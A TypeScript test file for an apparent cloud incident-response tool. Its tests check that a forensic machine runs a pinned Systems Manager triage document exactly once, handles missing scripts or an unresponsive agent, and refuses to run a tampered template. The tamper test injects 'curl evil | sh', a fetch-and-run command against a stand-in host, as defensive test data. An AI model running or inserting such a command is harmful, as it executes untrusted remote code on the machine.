import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ssmState } from '@cordon/local-aws';
import { TRIAGE_DOCUMENT } from '@cordon/incident';
import type { FinishedDrill } from '@cordon/drill';
import { describe, expect, it } from 'vitest';
import { broken, drill, inProcess } from './run.ts';
import { vaultText, vaultVersions } from '../vault-text.ts';

/** Objects of the vault, as text, by the end of their keys. */
const objectsOf = ({ record }: FinishedDrill, part: string): readonly string[] => {
  return [...vaultVersions(record.organization, record.accounts.evidence)]
    .filter(([key]) => key.includes(part))
    .flatMap(([key, [newest]]) => (newest?.kind === 'object' ? [vaultText(key, newest.body)] : []));
};

/** What the ledger says became of the examination. */
const entryOf = (played: FinishedDrill): string =>
  objectsOf(played, '/custody/').find((entry) => entry.includes('"step":"triage"')) ?? 'no entry';

/** How the incident ends in each: a deployment without an image of its own is told, and nobody is called. */
const STATUS: Readonly<Record<string, string>> = { 'machine-without-agent': 'needs-a-person' };

const play = async (
  scenario: string,
  look: (played: FinishedDrill) => unknown,
  {
    status = STATUS[scenario] ?? 'sealed',
    ...more
  }: { readonly status?: string; readonly templates?: Readonly<Record<string, object>> } = {},
) => {
  const { conditions } = inProcess(scenario);
  const played = await drill({ scenario, conditions: { ...conditions, ...more } });
  try {
    expect(broken(played.result)).toEqual([]);
    expect(played.result.incidents[0]?.status).toBe(status);
    await look(played);
  } finally {
    await played.close();
  }
};

describe('the examination of disks by the forensic machine', () => {
  it('runs the pinned document once on the machine, and its statement and seal come into custody', () =>
    play('richest', (played) => {
      const { organization, accounts } = played.record;
      const sent = organization.journal.calls.filter(({ operation }) => operation === 'SendCommand');
      expect(sent).toHaveLength(1);
      const machine = played.result.incidents[0]?.forensics;
      expect(sent[0]?.input).toMatchObject({
        InstanceIds: [machine?.instanceId],
        DocumentHash: createHash('sha256').update(JSON.stringify(TRIAGE_DOCUMENT)).digest('hex'),
      });
      const [statement = ''] = objectsOf(played, '/objects/triage-statement.json');
      const { seal, evidence } = JSON.parse(statement) as { seal: string; evidence: { source: string }[] };
      expect(new Set(evidence.map(({ source }) => source))).toEqual(new Set(machine?.volumes));
      expect(entryOf(played)).toContain(`"seal":"${seal}"`);
      expect(entryOf(played)).toContain('"outcome":"done"');
      expect(entryOf(played)).toContain('no YARA, or no rules in');
      const documents = organization.world.of(ssmState, accounts.forensics, 'eu-central-1').documents;
      expect([...documents.keys()]).toEqual(['cordon-triage']);
    }));

  it('is told to have failed where the image has no scripts, and the incident is sealed all the same', () =>
    play('image-without-scripts', (played) => {
      expect(entryOf(played)).toContain('"outcome":"failed"');
      expect(entryOf(played)).toContain('brings no /opt/cordon/triage');
    }));

  it('is given up after ten minutes where no agent answers', () =>
    play('machine-without-agent', (played) => {
      expect(entryOf(played)).toContain('"status":"not-run"');
      expect(entryOf(played)).toMatch(
        /no agent of Systems Manager answered on i-[0-9a-f]+ within 10 minutes/,
      );
      const { calls } = played.record.organization.journal;
      expect(calls.some(({ operation }) => operation === 'SendCommand')).toBe(false);
    }));

  it('does not run a document that somebody has changed', () => {
    const made = join(
      import.meta.dirname,
      '../../apps/forensics-account/cdk.out/CordonForensicsRegion.template.json',
    );
    const changed = readFileSync(made, 'utf8').replace(
      'exec ./examine-once',
      'curl evil | sh; exec ./examine-once',
    );
    expect(changed).toContain('curl evil');
    return play(
      'richest',
      (played) => {
        expect(entryOf(played)).toContain('is not the one that was deployed');
        expect(
          played.record.organization.journal.calls.some(({ operation }) => operation === 'SendCommand'),
        ).toBe(false);
      },
      { templates: { CordonForensicsRegion: JSON.parse(changed) as object }, status: 'needs-a-person' },
    );
  });
});
